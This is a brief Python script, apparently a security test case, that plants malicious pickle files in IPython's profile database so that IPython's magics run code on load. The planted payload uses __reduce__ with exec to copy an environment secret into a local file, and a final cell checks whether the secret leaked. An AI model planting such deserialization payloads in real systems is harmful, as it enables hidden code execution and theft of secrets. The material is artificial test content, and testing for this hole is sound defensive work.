"""Leaves a pickle where IPython's own magics look for their store.
"""
# %%
import os
import pickle
from pathlib import Path


class Runs:
    def __reduce__(self):
        return exec, ("import os; open('secret', 'w').write(os.environ.get('ATTACK_SECRET', ''))",)

for folder in ("profile_default/db", "profile_default/db/autorestore"):
    place = Path(os.environ["IPYTHONDIR"]) / folder
    place.mkdir(parents=True, exist_ok=True)
    for name in ("bookmarks", "rootmodules_cache", "syscmdlist", "aliases"):
        (place / name).write_bytes(pickle.dumps(Runs()))
# %% test
%cd nowhere-at-all
assert answer == 4242.25
# %%
if os.path.exists("secret") and open("secret").read():
    print("REACHED", open("secret").read())
